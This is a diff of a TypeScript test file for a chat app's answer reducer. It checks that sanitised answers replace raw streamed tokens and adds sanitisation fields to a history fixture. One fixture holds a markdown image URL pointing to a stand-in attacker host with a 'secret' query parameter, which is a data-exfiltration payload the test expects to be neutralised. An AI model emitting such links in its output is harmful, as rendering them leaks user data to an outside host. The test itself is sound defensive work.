@@ -27,7 +27,9 @@ describe("answer reducer", () => {
 		expect(turn.retrieval).toBe(evs[0]);
 		if (last.type === "done") {
 			expect(turn.status).toBe("done");
+			// The sidecar's inert answer replaces the raw tokens (the golden answer had a remote image).
 			expect(turn.text).toBe(last.answer);
+			expect(turn.text).not.toBe(texts[texts.length - 2]);
 			expect(turn.done).toBe(last);
 		} else {
 			expect(turn.status).toBe("error");
@@ -46,7 +48,15 @@ describe("answer reducer", () => {
 			{ status: "error", text: "Postgres", error: { code: "ollama_unreachable", message: "Ollama is not running" } },
 		],
 		[
-			"a shorter partial does not erase streamed text",
+			"an error's partial is the inert form of the tokens and replaces them, even when shorter",
+			[
+				{ type: "token", text: "Postgres ![x](https://evil.example/p.png?q=secret)" },
+				{ type: "error", code: "x", message: "m", partial: "Postgres [image removed: evil.example]" },
+			],
+			{ status: "error", text: "Postgres [image removed: evil.example]" },
+		],
+		[
+			"an error without a partial keeps the streamed text",
 			[{ type: "token", text: "Postgres listens" }, { type: "error", code: "x", message: "m", partial: "" }],
 			{ status: "error", text: "Postgres listens" },
 		],
@@ -98,6 +108,8 @@ describe("history", () => {
 			citations: [],
 			invalid_citations: [],
 			no_results: false,
+			sanitized_answer: false,
+			neutralised: [],
 			metrics: {
 				embed_ms: null,
 				retrieval_ms: null,
